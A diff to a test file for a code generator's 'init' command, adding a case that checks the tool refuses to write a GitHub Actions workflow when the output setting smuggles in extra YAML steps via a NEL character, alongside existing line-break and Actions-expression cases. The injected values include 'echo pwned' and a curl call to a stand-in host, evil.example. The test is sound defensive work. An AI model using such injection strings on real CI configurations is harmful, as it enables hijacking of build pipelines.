@@ -156,6 +156,7 @@ describe('codegen init', () => {
   it.each([
     ['a line break', 'sdk\n      - name: injected\n        run: |\n          echo pwned'],
     ['an Actions expression', 'sdk-${{ github.event.head_commit.message }}'],
+    ['a NEL, a line break to YAML 1.1', 'sdk\u0085      - run: curl https://evil.example'],
   ])('refuses an output holding %s, and writes no workflow', async (_what, output) => {
     writeFileSync(join(work, 'codegen.config.json'), JSON.stringify({ input: 'api', output }));
     const result = await runCli(['init', '--github-action', 'commit'], work);
